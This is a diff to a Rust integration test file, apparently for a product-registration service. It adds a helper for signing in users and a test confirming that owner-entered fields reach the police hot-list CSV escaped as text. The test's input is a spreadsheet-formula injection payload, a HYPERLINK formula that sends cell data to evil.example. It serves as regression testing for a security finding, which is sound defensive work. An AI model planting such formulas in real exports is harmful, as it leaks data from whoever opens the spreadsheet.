@@ -7,19 +7,24 @@ use crate::both_engines;
 use crate::common::{Engine, TestApp, location};
 use serialtrace::account::Role;
 
+/// A staff member, an officer of the Harbour Police (officer@DOMAIN) and an owner
+/// (owner@DOMAIN), each signed in.
+async fn desk(app: &TestApp, domain: &str) -> (reqwest::Client, reqwest::Client, reqwest::Client) {
+    let (staff, _) = app.two_staff().await;
+    let (officer, owner) = (format!("officer@{domain}"), format!("owner@{domain}"));
+    app.user(&officer, Some(Role::Police), None, Some("Harbour Police"))
+        .await;
+    app.user(&owner, None, None, None).await;
+    (
+        staff,
+        app.signed_in(&officer).await,
+        app.signed_in(&owner).await,
+    )
+}
+
 async fn officers_search_file_recover_and_reach_owners(engine: Engine) {
     let app = TestApp::spawn(engine).await;
-    let (staff, _) = app.two_staff().await;
-    app.user(
-        "officer@police.test",
-        Some(Role::Police),
-        None,
-        Some("Harbour Police"),
-    )
-    .await;
-    app.user("owner@police.test", None, None, None).await;
-    let officer = app.signed_in("officer@police.test").await;
-    let owner = app.signed_in("owner@police.test").await;
+    let (staff, officer, owner) = desk(&app, "police.test").await;
 
     // A fixed set: three new laptops, the owner's one reported by the police.
     let serials = app.generate(&staff, "HC-L14", 3).await;
@@ -236,3 +241,52 @@ async fn officers_search_file_recover_and_reach_owners(engine: Engine) {
     );
 }
 both_engines!(officers_search_file_recover_and_reach_owners);
+
+/// What owners type reaches the officers' hot list as text, never as a spreadsheet formula
+/// (security review, finding 5).
+async fn typed_text_reaches_the_hot_list_as_text_not_formulas(engine: Engine) {
+    let app = TestApp::spawn(engine).await;
+    let (staff, officer, owner) = desk(&app, "formula.test").await;
+    let serials = app.generate(&staff, "HC-L14", 1).await;
+    let unit = app.registered(&owner, &serials[0], None).await;
+    let place = "=HYPERLINK(\"https://evil.example/?\"&B2,\"Details\")";
+    let response = app
+        .post_form(
+            &owner,
+            &format!("/my/products/{unit}"),
+            &[
+                ("action", "report"),
+                ("report_kind", "stolen"),
+                ("place", place),
+                ("agency", "Harbour Police"),
+                ("case_number", "+1-555-0100"),
+            ],
+        )
+        .await;
+    assert_eq!(response.status().as_u16(), 303);
+    let csv = officer
+        .get(format!("{}/police/hotlist.csv", app.base))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let row = csv
+        .lines()
+        .find(|line| line.starts_with(&serials[0]))
+        .unwrap_or_else(|| panic!("the report is listed: {csv}"));
+    assert!(
+        row.contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"Details\"\")\"")
+            && row.contains(",'+1-555-0100,"),
+        "{row}"
+    );
+    // No cell of the list starts a formula.
+    for line in csv.lines() {
+        for cell in line.split(',') {
+            let cell = cell.trim_start_matches('"');
+            assert!(!cell.starts_with(['=', '+', '-', '@']), "{line}");
+        }
+    }
+}
+both_engines!(typed_text_reaches_the_hot_list_as_text_not_formulas);
